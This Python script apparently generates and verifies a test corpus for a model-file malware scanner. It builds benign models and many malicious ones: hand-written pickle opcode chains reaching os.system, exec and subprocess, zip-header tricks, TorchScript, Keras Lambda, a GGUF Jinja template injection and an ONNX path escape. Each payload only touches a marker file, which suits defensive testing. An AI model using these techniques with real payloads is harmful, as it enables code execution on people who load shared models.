#!/usr/bin/env python3
"""Build and verify the model-scan test corpus from the real libraries.

    python scripts/model-corpus.py generate [OUT]   # writes OUT (default crates/palisade-model/tests/corpus)
    python scripts/model-corpus.py verify   [OUT]   # loads every sample with its real consumer
    python scripts/model-corpus.py examples         # the iris models of examples/sklearn-api

Benign samples are real models saved by torch, scikit-learn, joblib, numpy and safetensors.
Malicious samples each use one technique; their payload is harmless: it creates a marker file
under $PALISADE_MARKER_DIR (default /tmp/palisade-corpus-markers) named after the sample.
`verify` loads each file in a fresh subprocess with the loader the manifest names and checks
that every malicious payload fires and every benign model loads, so the corpus is honest.

Needs: pip install -r scripts/model-corpus-requirements.txt (torch, scikit-learn, joblib, keras, onnx, gguf,
numpy, safetensors, lz4). The generated files are committed; the regular tests do not need
any of this.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from typing import Tuple

MARKERS = "/tmp/palisade-corpus-markers"
HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_OUT = os.path.join(HERE, "..", "crates", "palisade-model", "tests", "corpus")


def marker_cmd(name):
    return f"mkdir -p {MARKERS} && touch {MARKERS}/{name}"


def marker_py(name):
    return f"import os; os.makedirs('{MARKERS}', exist_ok=True); open('{MARKERS}/{name}', 'w').write('fired')"


# --- hand-written pickle pieces -------------------------------------------------------------

def s0(text):
    """Protocol-0 STRING argument."""
    return b"S'" + text.encode() + b"'\n"


def ub(text):
    """BINUNICODE (protocol 1+)."""
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sbu(text):
    """SHORT_BINUNICODE (protocol 4)."""
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call1(callee, arg):
    """callee(arg) with protocol 2 opcodes; callee is opcode bytes leaving a callable."""
    return callee + arg + b"\x85R"  # TUPLE1, REDUCE


P2 = b"\x80\x02"
P4 = b"\x80\x04"


class Reduce:
    """An object whose unpickling calls fn(*args)."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def gguf_file(p, template):
    """A one-tensor llama GGUF with this chat template."""
    import gguf
    import numpy as np
    wr = gguf.GGUFWriter(p, "llama")
    wr.add_block_count(1)
    wr.add_chat_template(template)
    wr.add_tensor("tok_embd", np.ones((4, 4), dtype=np.float32))
    wr.write_header_to_file()
    wr.write_kv_data_to_file()
    wr.write_tensors_to_file()
    wr.close()


# --- the samples ------------------------------------------------------------------------------

def benign(out):
    import joblib
    import numpy as np
    import py7zr
    import torch
    from safetensors.torch import save_file
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    torch.manual_seed(0)
    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 4))
    y = (X[:, 0] > 0).astype(int)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    samples = []

    def add(name, loader, write):
        path = os.path.join(out, "benign", name)
        write(path)
        samples.append({"file": f"benign/{name}", "kind": "benign", "loader": loader})

    add("state_dict.pt", "torch", lambda p: torch.save(net.state_dict(), p))
    add("full_model.pt", "torch", lambda p: torch.save(net, p))
    add("state_dict.pth.tar", "torch", lambda p: torch.save({"epoch": 3, "state_dict": net.state_dict(),
                                                            "optimizer": torch.optim.SGD(net.parameters(), lr=0.1).state_dict()}, p))
    add("legacy_state_dict.pt", "torch",
        lambda p: torch.save(net.state_dict(), p, _use_new_zipfile_serialization=False))
    add("scripted.pt", "torchscript", lambda p: torch.jit.script(net).save(p))
    add("model.safetensors", "safetensors", lambda p: save_file(net.state_dict(), p))
    lr = LogisticRegression().fit(X, y)
    add("logreg_p5.pkl", "pickle", lambda p: open(p, "wb").write(pickle.dumps(lr, protocol=5)))
    add("logreg_p2.pkl", "pickle", lambda p: open(p, "wb").write(pickle.dumps(lr, protocol=2)))
    add("arrays_p0.pkl", "pickle",
        lambda p: open(p, "wb").write(pickle.dumps({"w": np.arange(6.0).reshape(2, 3), "name": "x"}, protocol=0)))
    pipe = Pipeline([("scale", StandardScaler()), ("tree", DecisionTreeClassifier(max_depth=3))]).fit(X, y)
    add("pipeline.joblib", "joblib", lambda p: joblib.dump(pipe, p))
    forest = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
    add("forest.joblib", "joblib", lambda p: joblib.dump(forest, p))
    for c in ["zlib", "gzip", "bz2", "xz", "lzma", "lz4"]:
        add(f"forest_{c}.joblib", "joblib", lambda p, c=c: joblib.dump(forest, p, compress=(c, 3)))
    add("labels_objects.joblib", "joblib",
        lambda p: joblib.dump({"classes": np.array(["cat", "dog"], dtype=object), "w": np.ones(3)}, p))
    add("weights.npy", "numpy", lambda p: np.save(p, np.arange(12, dtype=np.float32).reshape(3, 4)))
    add("weights.npz", "numpy", lambda p: np.savez_compressed(p, a=np.ones(4), b=np.zeros((2, 2))))
    add("logreg.pkl.gz", "joblib", lambda p: open(p, "wb").write(gzip.compress(pickle.dumps(lr, protocol=4))))

    def targz(p):
        buf = io.BytesIO()
        torch.save(net.state_dict(), buf)
        with tarfile.open(p, "w:gz") as t:
            info = tarfile.TarInfo("model/pytorch_model.bin")
            info.size = len(buf.getvalue())
            t.addfile(info, io.BytesIO(buf.getvalue()))
    add("model.tar.gz", "tar-torch", targz)

    def sevenz(p):
        # py7zr's defaults: BCJ x86 then LZMA2, header packed too
        buf = io.BytesIO()
        torch.save(net.state_dict(), buf)
        with py7zr.SevenZipFile(p, "w") as z:
            z.writestr(buf.getvalue(), "model/pytorch_model.bin")
            z.writestr(b'{"architectures": ["Net"]}', "model/config.json")
    add("model.7z", "7z-torch", sevenz)

    def hf_zip(p):
        sd = io.BytesIO()
        from safetensors.torch import save
        sd.write(save(net.state_dict()))
        with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("repo/model.safetensors", sd.getvalue())
            z.writestr("repo/config.json", json.dumps({"hidden": 8}))
    add("hf_repo.zip", "zip-safetensors", hf_zip)

    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras
    km = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(1)])
    add("dense.keras", "keras", lambda p: km.save(p))
    add("dense_legacy.h5", "keras", lambda p: km.save(p))

    import onnx
    from onnx import TensorProto, helper, numpy_helper
    w = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), "W")
    graph = helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["Y"])], "g",
                              [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])], [w])
    omodel = helper.make_model(graph)
    add("matmul.onnx", "onnx", lambda p: onnx.save(omodel, p))

    def onnx_external(p):
        m = onnx.ModelProto()
        m.CopyFrom(omodel)
        onnx.save_model(m, p, save_as_external_data=True, all_tensors_to_one_file=True,
                        location="matmul_external.onnx.data", size_threshold=0)
    add("matmul_external.onnx", "onnx", onnx_external)

    import tensorflow as tf

    class Scorer(tf.Module):
        def __init__(self):
            self.w = tf.Variable(tf.ones((4, 1)))

        @tf.function(input_signature=[tf.TensorSpec((None, 4), tf.float32)])
        def __call__(self, x):
            return tf.matmul(x, self.w)
    add("tf_scorer/saved_model.pb", "tf-savedmodel",
        lambda p: tf.saved_model.save(Scorer(), os.path.dirname(p)))
    add("chat.gguf", "gguf-jinja", lambda p: gguf_file(
        p, "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}<|assistant|>"))
    return samples


def malicious(out):
    import joblib
    import numpy as np
    import py7zr
    import torch

    samples = []

    def add(name, technique, loader, data=None, write=None, expect="MDL001"):
        path = os.path.join(out, "malicious", name)
        if write is not None:
            write(path)
        else:
            with open(path, "wb") as f:
                f.write(data)
        samples.append({"file": f"malicious/{name}", "kind": "malicious", "technique": technique,
                        "loader": loader, "expect": expect})

    def cmd(name):
        return s0(marker_cmd(name))

    # Raw pickles, one technique each.
    add("os_system_p2.pkl", "REDUCE of posix.system (protocol 2)", "pickle",
        P2 + call1(glob("posix", "system"), ub(marker_cmd("os_system_p2.pkl"))) + b".")
    add("proto0_global.pkl", "protocol 0 GLOBAL/REDUCE, os.system", "pickle",
        glob("os", "system") + b"(" + cmd("proto0_global.pkl") + b"tR.")
    add("inst_opcode.pkl", "INST opcode (calls without REDUCE)", "pickle",
        b"(" + cmd("inst_opcode.pkl") + b"ios\nsystem\n.")
    add("obj_opcode.pkl", "OBJ opcode with the callable on the stack", "pickle",
        b"(" + glob("os", "system") + cmd("obj_opcode.pkl") + b"o.")
    add("builtins_exec.pkl", "builtins.exec of Python source", "pickle",
        P2 + call1(glob("builtins", "exec"), ub(marker_py("builtins_exec.pkl"))) + b".")
    add("py2_builtin_eval.pkl", "Python 2 name __builtin__.eval (fix_imports)", "pickle",
        P2 + call1(glob("__builtin__", "eval"), ub(f"__import__('os').system('{marker_cmd('py2_builtin_eval.pkl')}')")) + b".")
    add("py2_commands.pkl", "Python 2 module commands → subprocess", "pickle",
        P2 + call1(glob("commands", "getoutput"), ub(marker_cmd("py2_commands.pkl"))) + b".")
    # STACK_GLOBAL with names memoised and fetched back
    sg = (P4 + sbu("os") + b"\x94" + sbu("system") + b"\x94" + b"h\x00h\x01\x93"
          + sbu(marker_cmd("stack_global_memo.pkl")) + b"\x85R.")
    add("stack_global_memo.pkl", "STACK_GLOBAL with memoised names", "pickle", sg)
    getattr_chain = (P2 + glob("builtins", "getattr") + b"(" + call1(glob("builtins", "__import__"), ub("os"))
                     + ub("system") + b"tR" + ub(marker_cmd("getattr_chain.pkl")) + b"\x85R.")
    add("getattr_chain.pkl", "builtins.getattr(__import__('os'), 'system')", "pickle", getattr_chain)
    imp = (P2 + glob("builtins", "getattr") + b"(" + call1(glob("importlib", "import_module"), ub("subprocess"))
           + ub("getoutput") + b"tR" + ub(marker_cmd("importlib_chain.pkl")) + b"\x85R.")
    add("importlib_chain.pkl", "importlib.import_module + getattr", "pickle", imp)
    ag = (P2 + call1(call1(glob("operator", "attrgetter"), ub("system")), call1(glob("builtins", "__import__"), ub("os")))
          + ub(marker_cmd("attrgetter.pkl")) + b"\x85R.")
    add("attrgetter.pkl", "operator.attrgetter('system')(os)", "pickle", ag)
    mc = (P2 + glob("operator", "methodcaller") + b"(" + ub("system") + ub(marker_cmd("methodcaller.pkl")) + b"tR"
          + call1(glob("builtins", "__import__"), ub("os")) + b"\x85R.")
    add("methodcaller.pkl", "operator.methodcaller('system', cmd)(os)", "pickle", mc)
    add("dotted_path.pkl", "dotted attribute path torch.serialization.os.system (protocol 4)", "pickle",
        P4 + sbu("torch.serialization") + sbu("os.system") + b"\x93" + sbu(marker_cmd("dotted_path.pkl")) + b"\x85R.")
    add("pydoc_locate.pkl", "pydoc.locate('os.system')", "pickle",
        P2 + call1(call1(glob("pydoc", "locate"), ub("os.system")), ub(marker_cmd("pydoc_locate.pkl"))) + b".")
    add("pkgutil_resolve.pkl", "pkgutil.resolve_name('os:system')", "pickle",
        P2 + call1(call1(glob("pkgutil", "resolve_name"), ub("os:system")), ub(marker_cmd("pkgutil_resolve.pkl"))) + b".")
    compiled = glob("builtins", "compile") + b"(" + ub(marker_py("runpy.pkl")) + ub("<x>") + ub("exec") + b"tR"
    add("runpy.pkl", "runpy._run_code with compiled source", "pickle",
        P2 + glob("runpy", "_run_code") + b"(" + compiled + b"}tR.")
    inner = P2 + call1(glob("os", "system"), ub(marker_cmd("nested_loads.pkl"))) + b"."
    add("nested_loads.pkl", "pickle.loads of a nested malicious pickle", "pickle",
        P2 + call1(glob("pickle", "loads"), b"C" + bytes([len(inner)]) + inner) + b".")
    code = compile(marker_py("marshal_code.pkl"), "<x>", "exec")
    import marshal
    mcode = marshal.dumps(code)
    mar = (P2 + glob("types", "FunctionType") + b"(" + call1(glob("marshal", "loads"), b"B" + struct.pack("<I", len(mcode)) + mcode)
           + b"}tR)R.")
    add("marshal_code.pkl", "marshal.loads code object + types.FunctionType", "pickle", mar)
    add("partial.pkl", "functools.partial(os.system, cmd)()", "pickle",
        P2 + glob("functools", "partial") + b"(" + glob("os", "system") + ub(marker_cmd("partial.pkl")) + b"tR)R.")
    add("copyreg_reconstructor.pkl", "copyreg._reconstructor instantiating subprocess.Popen", "pickle",
        P2 + glob("copy_reg", "_reconstructor") + b"(" + glob("subprocess", "Popen") + glob("subprocess", "Popen")
        + b"(" + ub("sh") + ub("-c") + ub(marker_cmd("copyreg_reconstructor.pkl")) + b"ltR.")
    add("subprocess_popen.pkl", "subprocess.Popen with an argument list", "pickle",
        P2 + glob("subprocess", "Popen") + b"(" + b"(" + ub("sh") + ub("-c") + ub(marker_cmd("subprocess_popen.pkl"))
        + b"ltR.")
    add("broken_tail.pkl", "payload before a broken tail (nullifAI): no STOP, garbage", "pickle",
        P2 + call1(glob("os", "system"), ub(marker_cmd("broken_tail.pkl"))) + b"\xff\xfe garbage", expect="MDL001")
    add("truncated.pkl", "payload then truncated mid-argument", "pickle",
        P2 + call1(glob("os", "system"), ub(marker_cmd("truncated.pkl"))) + b"X\x00\x10\x00\x00ab", expect="MDL001")
    decoy = P2 + b"}."
    add("decoy_stop_in_bytes.pkl", "a decoy pickle and STOP inside a bytes argument, then the payload", "pickle",
        P2 + b"C" + bytes([len(decoy)]) + decoy + b"0" + call1(glob("os", "system"), ub(marker_cmd("decoy_stop_in_bytes.pkl"))) + b".")
    clean = pickle.dumps({"ok": 1}, protocol=2)
    add("second_stream.pkl", "a clean pickle followed by a malicious second stream", "pickle-twice",
        clean + P2 + call1(glob("os", "system"), ub(marker_cmd("second_stream.pkl"))) + b".")
    evil_obj = Reduce(os.system, marker_cmd("model.safetensors"))
    add("model.safetensors", "a pickle disguised as .safetensors", "pickle", pickle.dumps(evil_obj, protocol=4))
    add("weights.npy", "a pickle disguised as .npy (numpy.load with allow_pickle)", "numpy",
        pickle.dumps(Reduce(os.system, marker_cmd("weights.npy")), protocol=2))
    for c, comp in [("gzip", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("zlib", zlib.compress)]:
        name = f"compressed_{c}.pkl"
        add(name, f"{c}-compressed pickle", "joblib",
            comp(pickle.dumps(Reduce(os.system, marker_cmd(name)), protocol=4)))

    # PyTorch.
    def tsave(name, obj, **kw):
        return lambda p: torch.save(obj, p, **kw)

    net = torch.nn.Linear(2, 2)
    add("torch_data_pkl.pt", "PyTorch zip whose data.pkl calls os.system", "torch",
        write=tsave("torch_data_pkl.pt", {"w": net.state_dict(), "x": Reduce(os.system, marker_cmd("torch_data_pkl.pt"))}))
    add("torch_legacy.pt", "legacy (non-zip) PyTorch checkpoint with a payload", "torch",
        write=tsave("torch_legacy.pt", {"x": Reduce(os.system, marker_cmd("torch_legacy.pt"))},
                    _use_new_zipfile_serialization=False))
    add("rebuild_from_type.pt", "torch._tensor._rebuild_from_type_v2 calling os.system", "torch",
        write=tsave("rebuild_from_type.pt", Reduce(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor,
                                                   (marker_cmd("rebuild_from_type.pt"),), {})))
    add("checkpoint.pth.tar", "PyTorch zip disguised as .pth.tar", "torch",
        write=tsave("checkpoint.pth.tar", {"state_dict": net.state_dict(),
                                           "x": Reduce(os.system, marker_cmd("checkpoint.pth.tar"))}))

    def torch_bytes(obj):
        b = io.BytesIO()
        torch.save(obj, b)
        return bytearray(b.getvalue())

    def patch_member(data, member, fn):
        """Apply fn(data, local_offset, central_offset) for the member's headers."""
        z = zipfile.ZipFile(io.BytesIO(bytes(data)))
        info = z.getinfo(member)
        local = info.header_offset
        # central directory entry: search its signature + name
        cen = bytes(data).rfind(b"PK\x01\x02", 0, len(data))
        pos = bytes(data).find(b"PK\x01\x02")
        while pos != -1:
            nlen = struct.unpack_from("<H", data, pos + 28)[0]
            if bytes(data[pos + 46:pos + 46 + nlen]) == member.encode():
                cen = pos
                break
            pos = bytes(data).find(b"PK\x01\x02", pos + 4)
        fn(data, local, cen)
        return bytes(data)

    def evil_ckpt(name):
        return torch_bytes({"w": net.state_dict(), "x": Reduce(os.system, marker_cmd(name))})

    def data_member(b):
        return next(n for n in zipfile.ZipFile(io.BytesIO(bytes(b))).namelist() if n.endswith("data.pkl"))

    b = evil_ckpt("zip_bad_crc.pt")
    m = data_member(b)

    def bad_crc(d, local, cen):
        crc = struct.unpack_from("<I", d, local + 14)[0] ^ 0xFFFFFFFF
        struct.pack_into("<I", d, local + 14, crc)
        struct.pack_into("<I", d, cen + 16, crc)
    add("zip_bad_crc.pt", "data.pkl with a wrong CRC (zipfile refuses, torch loads)", "torch",
        patch_member(b, m, bad_crc))
    b = evil_ckpt("zip_flag_bit.pt")

    def flag_bit(d, local, cen):
        struct.pack_into("<H", d, local + 6, struct.unpack_from("<H", d, local + 6)[0] | 1)
    add("zip_flag_bit.pt", "data.pkl marked encrypted in its local header only (torch loads it, streaming readers skip it)",
        "torch", patch_member(b, m, flag_bit))
    b = evil_ckpt("zip_local_name.pt")

    def local_name(d, local, cen):
        nlen = struct.unpack_from("<H", d, local + 26)[0]
        name = bytes(d[local + 30:local + 30 + nlen])
        d[local + 30:local + 30 + nlen] = name[:-3] + b"bin"
    add("zip_local_name.pt", "local header names data.pkl differently from the central directory", "torch",
        patch_member(b, m, local_name))

    def extra_member(p):
        buf = evil_ckpt("unused")
        z = zipfile.ZipFile(io.BytesIO(bytes(torch_bytes({"w": net.state_dict()}))))
        with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as out:
            for n in z.namelist():
                out.writestr(n, z.read(n))
            prefix = z.namelist()[0].split("/")[0]
            out.writestr(f"{prefix}/extra.pkl", pickle.dumps(Reduce(os.system, marker_cmd("extra_member.pt")), protocol=2))
        del buf
    add("extra_member.pt", "a malicious .pkl member other than data.pkl", "zip-member:extra.pkl", write=extra_member)

    def polyglot(p):
        clean = pickle.dumps({"ok": 1}, protocol=2)
        zbuf = io.BytesIO()
        with zipfile.ZipFile(zbuf, "w") as z:
            z.writestr("archive/data.pkl", pickle.dumps(Reduce(os.system, marker_cmd("polyglot.pkl")), protocol=2))
        open(p, "wb").write(clean + zbuf.getvalue())
    add("polyglot.pkl", "a clean pickle that is also a zip holding a malicious data.pkl", "zip-member:data.pkl",
        write=polyglot)

    # joblib and numpy.
    add("joblib_payload.joblib", "joblib file with arrays and a payload after them", "joblib",
        write=lambda p: joblib.dump({"w": np.ones((4, 4)), "x": Reduce(os.system, marker_cmd("joblib_payload.joblib"))}, p))
    add("joblib_lz4.joblib", "lz4-compressed joblib file with a payload", "joblib",
        write=lambda p: joblib.dump({"w": np.ones(3), "x": Reduce(os.system, marker_cmd("joblib_lz4.joblib"))}, p,
                                    compress=("lz4", 3)))
    add("joblib_object_array.joblib", "payload inside a joblib object array (nested pickle)", "joblib",
        write=lambda p: joblib.dump(np.array([Reduce(os.system, marker_cmd("joblib_object_array.joblib"))], dtype=object), p))
    add("object_array.npy", "payload inside a NumPy object array", "numpy",
        write=lambda p: np.save(p, np.array([Reduce(os.system, marker_cmd("object_array.npy"))], dtype=object),
                                allow_pickle=True))
    add("object_array.npz", "payload inside an object array in an .npz", "numpy-npz",
        write=lambda p: np.savez(p, w=np.ones(2), x=np.array([Reduce(os.system, marker_cmd("object_array.npz"))], dtype=object)))

    def tar_evil(p):
        data = evil_ckpt("model_in_tar.tar.gz")
        with tarfile.open(p, "w:gz") as t:
            info = tarfile.TarInfo("model/pytorch_model.bin")
            info.size = len(data)
            t.addfile(info, io.BytesIO(bytes(data)))
    add("model_in_tar.tar.gz", "malicious checkpoint inside a .tar.gz", "tar-torch", write=tar_evil)

    def torchscript_file_write(p):
        # TorchScript source is compiled by torch.jit.load: a __setstate__ edited into
        # code/__torch__.py runs at load and creates a file through aten::from_file(shared=True)
        class Plain(torch.nn.Module):
            def forward(self, x):
                return x * 2

            @torch.jit.export
            def __getstate__(self) -> Tuple[int, bool]:
                return (1, self.training)

            @torch.jit.export
            def __setstate__(self, state: Tuple[int, bool]) -> None:
                self.training = state[1]

        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(Plain()), buf)
        marker = os.path.join(MARKERS, "torchscript_file_write.pt")
        with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(p, "w") as zout:
            for info in zin.infolist():
                data = zin.read(info.filename)
                if info.filename.endswith("code/__torch__.py"):
                    data = data.decode().replace(
                        "    self.training = (state)[1]\n",
                        f"    _0 = torch.fill_(torch.from_file(\"{marker}\", True, 4, dtype=0), 65)\n"
                        "    self.training = bool(torch.gt(torch.sum(_0), 0))\n").encode()
                zout.writestr(info, data)
    add("torchscript_file_write.pt", "TorchScript code that writes a file at load (aten::from_file)",
        "torchscript", write=torchscript_file_write, expect="MDL019")

    def sevenz_evil(p):
        with py7zr.SevenZipFile(p, "w") as z:
            z.writestr(b'{"architectures": ["Net"]}', "model/config.json")
            z.writestr(bytes(evil_ckpt("model_in_7z.7z")), "model/pytorch_model.bin")
    add("model_in_7z.7z", "malicious checkpoint inside a 7z archive", "7z-torch", write=sevenz_evil)

    # Keras: a Lambda layer whose function is marshalled bytecode.
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    def lam(name):
        src = f"lambda x: (__import__('os').system('{marker_cmd(name)}'), x)[1]"
        return keras.Sequential([keras.Input((4,)), keras.layers.Lambda(eval(src)), keras.layers.Dense(1)])
    add("lambda.keras", "Keras Lambda layer with marshalled bytecode (loaded with safe_mode=False)", "keras-unsafe",
        write=lambda p: lam("lambda.keras").save(p), expect="MDL013")
    add("lambda_legacy.h5", "legacy HDF5 Keras model with a Lambda layer", "keras-unsafe",
        write=lambda p: lam("lambda_legacy.h5").save(p), expect="MDL013")

    # GGUF: a chat template that escapes Jinja into os.system (fires in a non-sandboxed render).
    add("template_ssti.gguf", "GGUF chat template reaching os through Jinja globals (CVE-2024-34359)", "gguf-jinja",
        write=lambda p: gguf_file(p, "{{ cycler.__init__.__globals__.os.system('" + marker_cmd("template_ssti.gguf")
                                  + "') }}{% for m in messages %}{{ m['content'] }}{% endfor %}"),
        expect="MDL017")

    # TensorFlow: a SavedModel whose serving function writes a file.
    import tensorflow as tf

    class Writer(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec((None, 4), tf.float32)])
        def __call__(self, x):
            os.makedirs(MARKERS, exist_ok=True)
            tf.io.write_file(f"{MARKERS}/saved_model.pb", "fired")
            return x
    add("tf_write_file/saved_model.pb", "SavedModel graph with a WriteFile op in its serving function",
        "tf-savedmodel", write=lambda p: tf.saved_model.save(Writer(), os.path.dirname(p)), expect="MDL018")

    # ONNX: external data outside the model directory. Current onnx refuses to follow it, so
    # the verifier proves the path escapes rather than firing a payload.
    import onnx
    from onnx import TensorProto, helper

    def onnx_escape(p):
        t = helper.make_tensor("W", TensorProto.FLOAT, [1], [0.0])
        t.ClearField("float_data")
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", "../../../../../../etc/hostname"), ("offset", "0"), ("length", "4")):
            e = t.external_data.add()
            e.key, e.value = k, v
        g = helper.make_graph([helper.make_node("Identity", ["W"], ["Y"])], "g", [],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1])], [t])
        onnx.save(helper.make_model(g), p)
    add("external_escape.onnx", "ONNX external data location climbing out of the model directory", "onnx-escape",
        write=onnx_escape, expect="MDL015")
    return samples


def examples():
    """examples/sklearn-api: the iris model as served (hardened) and as poisoned upstream
    (vulnerable: the same pipeline, plus a payload that only creates a marker file)."""
    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(1)
    X = rng.normal(size=(150, 4))
    y = (X[:, 2] + X[:, 3] > 0).astype(int) + (X[:, 0] > 1).astype(int)
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=500))]).fit(X, y)
    root = os.path.join(HERE, "..", "examples", "sklearn-api")
    for variant in ("hardened", "vulnerable"):
        os.makedirs(os.path.join(root, variant, "model"), exist_ok=True)
    joblib.dump(pipe, os.path.join(root, "hardened", "model", "iris.joblib"))
    pipe.poisoned_hook = Reduce(os.system, marker_cmd("iris.joblib"))
    joblib.dump(pipe, os.path.join(root, "vulnerable", "model", "iris.joblib"))
    print("wrote examples/sklearn-api/{hardened,vulnerable}/model/iris.joblib")
    return 0


def generate(out):
    for d in ("benign", "malicious"):
        os.makedirs(os.path.join(out, d), exist_ok=True)
    samples = benign(out) + malicious(out)
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump({"about": "generated by scripts/model-corpus.py; payloads only create a marker file",
                   "samples": samples}, f, indent=1)
        f.write("\n")
    print(f"wrote {len(samples)} samples to {out}")


LOADER = r"""
import sys, pickle, io, zipfile, tarfile, warnings
warnings.filterwarnings("ignore")
loader, path = sys.argv[1], sys.argv[2]
if loader == "pickle":
    with open(path, "rb") as f: pickle.load(f)
elif loader == "pickle-twice":
    with open(path, "rb") as f: pickle.load(f); pickle.load(f)
elif loader == "torch":
    import torch; torch.load(path, weights_only=False)
elif loader == "torchscript":
    import torch; torch.jit.load(path)
elif loader == "joblib":
    import joblib; joblib.load(path)
elif loader == "numpy":
    import numpy; numpy.load(path, allow_pickle=True)
elif loader == "numpy-npz":
    import numpy; z = numpy.load(path, allow_pickle=True); [z[k] for k in z.files]
elif loader == "safetensors":
    from safetensors.numpy import load_file; load_file(path)
elif loader.startswith("zip-member:"):
    name = loader.split(":", 1)[1]
    z = zipfile.ZipFile(path)
    member = next(n for n in z.namelist() if n.endswith(name))
    pickle.loads(z.read(member))
elif loader == "zip-safetensors":
    from safetensors.numpy import load
    z = zipfile.ZipFile(path); load(z.read("repo/model.safetensors"))
elif loader == "tar-torch":
    import torch
    t = tarfile.open(path)
    torch.load(io.BytesIO(t.extractfile("model/pytorch_model.bin").read()), weights_only=False)
elif loader == "7z-torch":
    import torch, py7zr, tempfile, os
    with tempfile.TemporaryDirectory() as d:
        with py7zr.SevenZipFile(path) as z:
            z.extractall(d)
        torch.load(os.path.join(d, "model/pytorch_model.bin"), weights_only=False)
elif loader == "keras":
    import os; os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras; keras.models.load_model(path)
elif loader == "keras-unsafe":
    import os; os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras, numpy
    m = keras.models.load_model(path, safe_mode=False); m(numpy.ones((1, 4), dtype="float32"))
elif loader == "onnx":
    import onnx; onnx.checker.check_model(onnx.load(path))
elif loader == "onnx-escape":
    import onnx, os
    m = onnx.load(path, load_external_data=False)
    for t in m.graph.initializer:
        loc = dict((e.key, e.value) for e in t.external_data).get("location")
        target = os.path.realpath(os.path.join(os.path.dirname(path), loc))
        if not target.startswith(os.path.dirname(os.path.realpath(path)) + os.sep):
            os.makedirs("/tmp/palisade-corpus-markers", exist_ok=True)
            open("/tmp/palisade-corpus-markers/" + os.path.basename(path), "w").write(target)
elif loader == "tf-savedmodel":
    import os, tensorflow as tf
    m = tf.saved_model.load(os.path.dirname(path))
    m(tf.ones((1, 4)))
elif loader == "gguf-jinja":
    import gguf, jinja2
    r = gguf.GGUFReader(path)
    f = r.fields["tokenizer.chat_template"]
    template = bytes(f.parts[f.data[0]]).decode()
    jinja2.Environment().from_string(template).render(messages=[{"role": "user", "content": "hi"}])
else:
    raise SystemExit("unknown loader " + loader)
"""


def verify(out):
    # payloads that write into an existing directory (TorchScript's from_file) need it to exist
    os.makedirs(MARKERS, exist_ok=True)
    with open(os.path.join(out, "manifest.json")) as f:
        samples = json.load(f)["samples"]
    bad = 0
    for s in samples:
        path = os.path.join(out, s["file"])
        name = os.path.basename(path)
        marker = os.path.join(MARKERS, name)
        if os.path.exists(marker):
            os.remove(marker)
        r = subprocess.run([sys.executable, "-c", LOADER, s["loader"], path], capture_output=True, text=True,
                           timeout=300, cwd="/tmp")
        fired = os.path.exists(marker)
        if s["kind"] == "benign":
            ok = r.returncode == 0 and not fired
            what = "loads" if ok else f"FAILED to load: {r.stderr.strip().splitlines()[-1:]}"
        else:
            ok = fired
            what = "payload fired" + ("" if r.returncode == 0 else " (then the load raised)") if ok \
                else f"payload did NOT fire: {r.stderr.strip().splitlines()[-1:]}"
        print(f"{'ok ' if ok else 'BAD'} {s['file']:45} {s['loader']:22} {what}")
        bad += not ok
    print(f"{len(samples) - bad}/{len(samples)} samples behave as the manifest says")
    return 1 if bad else 0


if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in ("generate", "verify", "examples"):
        print(__doc__)
        sys.exit(2)
    if sys.argv[1] == "examples":
        sys.exit(examples())
    target = os.path.abspath(sys.argv[2] if len(sys.argv) > 2 else DEFAULT_OUT)
    sys.exit(generate(target) if sys.argv[1] == "generate" else verify(target))
